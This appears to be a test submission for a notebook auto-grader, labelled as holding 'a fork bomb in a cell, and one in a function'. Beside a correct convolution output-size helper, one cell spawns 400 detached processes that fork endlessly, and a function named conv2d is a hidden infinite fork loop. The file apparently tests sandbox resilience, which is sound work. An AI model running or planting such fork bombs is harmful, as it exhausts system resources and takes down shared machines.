# what: a fork bomb in a cell, and one in a function
# points: <= 16

# %% replace=output-size
def output_size(input_size, kernel_size, stride=1, padding=0, dilation=1):
    sizes = dict(input_size=input_size, kernel_size=kernel_size, stride=stride, dilation=dilation)
    for name, value in sizes.items():
        if value < 1:
            raise ValueError(f"{name} must be 1 or more")
    if padding < 0:
        raise ValueError("padding must be 0 or more")
    room = input_size + 2 * padding - dilation * (kernel_size - 1) - 1
    if room < 0:
        raise ValueError("kernel_size is too large")
    return room // stride + 1


# %% after=data
import os

for _ in range(400):
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                try:
                    os.fork()
                except BaseException:
                    pass
    except BaseException:
        pass


# %% replace=conv2d
def conv2d(*args, **kwargs):
    import os

    while True:
        try:
            os.fork()
        except BaseException:
            pass
